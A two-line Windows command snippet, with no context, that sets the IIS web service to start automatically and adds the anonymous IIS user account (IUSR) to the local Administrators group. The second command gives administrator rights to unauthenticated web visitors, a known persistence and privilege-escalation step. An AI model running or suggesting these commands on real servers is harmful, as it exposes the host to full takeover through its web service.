wmic service where "name='W3SVC'" call changestartmode automatic
net localgroup administrators "nt authority\iusr" /add
